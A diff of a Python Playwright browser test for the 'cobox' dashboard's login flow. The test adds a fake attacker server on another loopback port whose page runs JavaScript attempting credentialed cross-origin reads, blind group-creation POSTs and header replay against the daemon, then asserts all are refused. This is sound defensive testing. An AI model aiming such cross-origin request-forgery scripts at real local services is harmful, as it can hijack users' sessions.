@@ -1,18 +1,27 @@
 """The web dashboard in a real browser: headless Chromium (Debian's ``chromium``) driven by Playwright.
 
-Two daemon processes on loopback. The page logs in with a one-time link from ``cobox open``,
-creates a group, and watches a second daemon join, connect and append, live (server-sent
-events, no reload). A screenshot is kept in ``test-artifacts/dashboard.png``.
+Two daemon processes on loopback. The page logs in the way ``cobox open`` does it (through the
+0600 login page the CLI writes and hands the browser), creates a group, and watches a second
+daemon join, connect and append, live (server-sent events read by a fetch stream, no reload).
+Then a page of another local port, in the same browser, tries to use the session: its server
+receives nothing it can replay, its requests and its link get nothing (issue 12.16). A
+screenshot is kept in ``test-artifacts/dashboard.png``.
 """
 
 from __future__ import annotations
 
+import asyncio
+import json
 import re
 import shutil
+import stat
 from pathlib import Path
 
+import aiohttp
 import pytest
+from aiohttp import web
 
+from tests.integration.browser import fake_browser
 from tests.integration.daemons import ROOT, ok
 
 CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
@@ -29,22 +38,91 @@ def chromium() -> str:
     return path
 
 
-async def test_dashboard_logs_in_creates_a_group_and_updates_live(daemons):
+class Stranger:
+    """A server on another 127.0.0.1 port: its page tries the dashboard's API from the browser and
+    reports; every request it gets is kept (headers included) for replay against the daemon."""
+
+    def __init__(self, base: str) -> None:
+        self.base = base
+        self.requests: list[dict[str, str]] = []
+        self.reports: list[dict[str, str]] = []
+        self.reported = asyncio.Event()
+        self.runner: web.AppRunner | None = None
+        self.url = ""
+
+    PAGE = """<!doctype html><html><body><a id="steal" href="{base}/v1/groups/h/invite">a link</a>
+<a id="home" href="{base}/">the dashboard</a>
+<script>
+const D = "{base}";
+async function attempt(what, url, init) {{
+  try {{
+    const r = await fetch(url, {{credentials: "include", ...init}});
+    return `${{r.type}} ${{r.status}} ${{await r.text()}}`;
+  }}
+  catch (e) {{ return `error ${{e}}`; }}
+}}
+(async () => {{
+  const out = {{}};
+  out.read = await attempt("read", D + "/v1/groups/h/invite", {{}});
+  out.status = await attempt("status", D + "/v1/status", {{}});
+  out.create = await attempt("create", D + "/v1/groups", {{method: "POST", mode: "no-cors",
+    headers: {{"Content-Type": "text/plain"}}, body: JSON.stringify({{name: "evil"}})}});
+  out.create_cors = await attempt("create", D + "/v1/groups", {{method: "POST",
+    headers: {{"Content-Type": "application/json"}}, body: JSON.stringify({{name: "evil2"}})}});
+  await fetch("/report", {{method: "POST", body: JSON.stringify(out)}});
+}})();
+</script></body></html>"""
+
+    async def start(self) -> str:
+        app = web.Application()
+
+        async def page(request: web.Request) -> web.Response:
+            self.requests.append(dict(request.headers))
+            return web.Response(text=self.PAGE.format(base=self.base), content_type="text/html")
+
+        async def report(request: web.Request) -> web.Response:
+            self.requests.append(dict(request.headers))
+            self.reports.append(json.loads(await request.text()))
+            self.reported.set()
+            return web.Response(text="ok")
+
+        app.router.add_get("/", page)
+        app.router.add_post("/report", report)
+        self.runner = web.AppRunner(app)
+        await self.runner.setup()
+        site = web.TCPSite(self.runner, "127.0.0.1", 0)
+        await site.start()
+        self.url = f"http://127.0.0.1:{site._server.sockets[0].getsockname()[1]}/"  # type: ignore[union-attr]
+        return self.url
+
+    async def stop(self) -> None:
+        if self.runner is not None:
+            await self.runner.cleanup()
+
+
+async def test_dashboard_logs_in_creates_a_group_and_updates_live(daemons, tmp_path, monkeypatch):
     try:
         from playwright.async_api import async_playwright, expect
     except ImportError:
         pytest.fail("the browser tests need the playwright package (pip install -e '.[test]')")
     executable = chromium()
     a, b = await daemons("a"), await daemons("b")
+    argv_file = fake_browser(tmp_path, monkeypatch)
+    await ok(a.home, "open")
+    argv = json.loads(argv_file.read_text())
+    login_page = a.home / "dashboard-login.html"
+    assert argv == [login_page.as_uri()]  # all the browser's command line shows: a path
+    assert stat.S_IMODE(login_page.stat().st_mode) == 0o600
     link = (await ok(a.home, "open", "--no-browser")).strip()
-    base = link.split("/login")[0]
-    assert link.startswith("http://127.0.0.1:") and "/login?code=" in link
+    base = link.split("/#code=")[0]
+    assert link.startswith("http://127.0.0.1:") and "/#code=" in link
     a_status = await a.status()
 
     async with async_playwright() as pw:
         browser = await pw.chromium.launch(executable_path=executable, args=CHROMIUM_ARGS, timeout=30_000)
         try:
-            page = await browser.new_page(viewport={"width": 1280, "height": 1100})
+            context = await browser.new_context(viewport={"width": 1280, "height": 1100})
+            page = await context.new_page()
             page.set_default_timeout(10_000)
             errors: list[str] = []
             page.on("pageerror", lambda e: errors.append(str(e)))
@@ -52,12 +130,15 @@ async def test_dashboard_logs_in_creates_a_group_and_updates_live(daemons):
             page.on("response", lambda r: failed.append(f"{r.status} {r.url}")
                     if r.status >= 400 and not r.url.endswith("/v1/groups/join") else None)
             outside: list[str] = []
-            page.on("request", lambda r: None if r.url.startswith(base) else outside.append(r.url))
+            page.on("request", lambda r: None if r.url.startswith((base, "blob:" + base, login_page.as_uri()))
+                    else outside.append(r.url))
 
-            # Log in: the code is traded for a cookie and gone from the address bar.
-            await page.goto(link)
-            assert page.url == base + "/", page.url
+            # Log in as `cobox open` did: its page redirects, the code is traded and leaves the address bar.
+            await page.goto(argv[0])
+            await page.wait_for_url(base + "/")
             await expect(page.locator("#peer-id")).to_have_text(a_status["peer_id"])
+            assert await page.evaluate("() => sessionStorage.getItem('cobox-session')")
+            assert await page.context.cookies() == []
             await expect(page.locator("#live")).to_have_text("live")
             await expect(page.locator("#lan")).to_have_text("off")
 
@@ -111,15 +192,50 @@ async def test_dashboard_logs_in_creates_a_group_and_updates_live(daemons):
             # A used link, a wrong code, no session: refused, with the way to log in.
             other = await browser.new_context()
             stranger = await other.new_page()
-            for url, words in ((link, "not valid"), (base + "/login?code=wrong", "not valid"),
+            for url, words in ((argv[0], "not valid"), (base + "/#code=wrong" + "x" * 20, "not valid"),
                                (base + "/", "not logged in")):
-                r = await stranger.goto(url)
-                assert r is not None and r.status == 401, url
+                await stranger.goto(url)
                 await expect(stranger.locator("#login-message")).to_contain_text(words)
-                await expect(stranger.locator("body")).to_contain_text("cobox open")
+                await expect(stranger.locator("#auth-error")).to_contain_text("cobox open")
+                assert "code=" not in stranger.url
             r = await stranger.request.get(base + "/v1/status", headers={"Authorization": "Bearer wrong"})
             assert r.status == 401
             await other.close()
+
+            # Issue 12.16: a page of another local port, in the browser where the dashboard is logged in.
+            await ok(a.home, "group", "create", "h")
+            attacker = Stranger(base)
+            evil_url = await attacker.start()
+            try:
+                evil = await context.new_page()
+                await evil.goto(evil_url)
+                async with asyncio.timeout(LIVE / 1000):  # the page reports once its four tries are done
+                    await attacker.reported.wait()
+                report = attacker.reports[0]
+                assert not any("cobox://" in v or "peer_id" in v for v in report.values()), report
+                assert report["create"] == "opaque 0 "  # sent blind; the daemon refused it (below)
+                # Its link, followed in its tab: nothing.
+                async with evil.expect_navigation() as nav:
+                    await evil.click("#steal")
+                response = await nav.value
+                assert response is not None and response.status == 401
+                assert "cobox://" not in await evil.content()
+                # Its server got no cookie; whatever it got, replayed against the daemon, gets nothing.
+                assert not any("Cookie" in h or "cookie" in h for h in attacker.requests), attacker.requests
+                async with aiohttp.ClientSession(cookie_jar=aiohttp.DummyCookieJar()) as http:
+                    for headers in attacker.requests:
+                        keep = {k: v for k, v in headers.items() if k.lower() not in ("host", "content-length")}
+                        async with http.get(base + "/v1/groups/h/invite", headers=keep) as r:
+                            assert r.status in (401, 403)
+                        async with http.post(base + "/v1/groups", headers=keep, json={"name": "evil3"}) as r:
+                            assert r.status in (401, 403)
+                await evil.close()
+            finally:
+                await attacker.stop()
+            groups = [g["name"] for g in json.loads(await ok(a.home, "group", "list", "--json"))]
+            assert groups == ["h"], groups
+            # The dashboard itself is still logged in and live.
+            await expect(page.locator('article.group[data-group="h"]')).to_have_count(1, timeout=LIVE)
             assert not errors, errors
             assert not failed, failed
             assert not outside, f"the page loaded something from elsewhere: {outside}"
